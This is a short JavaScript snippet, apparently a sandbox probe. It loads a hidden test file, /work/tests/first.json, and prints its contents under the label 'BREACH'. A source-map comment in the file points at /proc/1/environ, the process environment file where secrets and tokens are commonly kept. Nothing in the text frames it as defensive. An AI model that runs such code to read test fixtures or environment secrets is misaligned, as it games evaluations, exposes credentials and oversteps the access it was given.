const path = ["/work/tests", "first.json"].join("/");
const tests = require(path);
//# sourceMappingURL=/proc/1/environ
console.log("BREACH", tests);
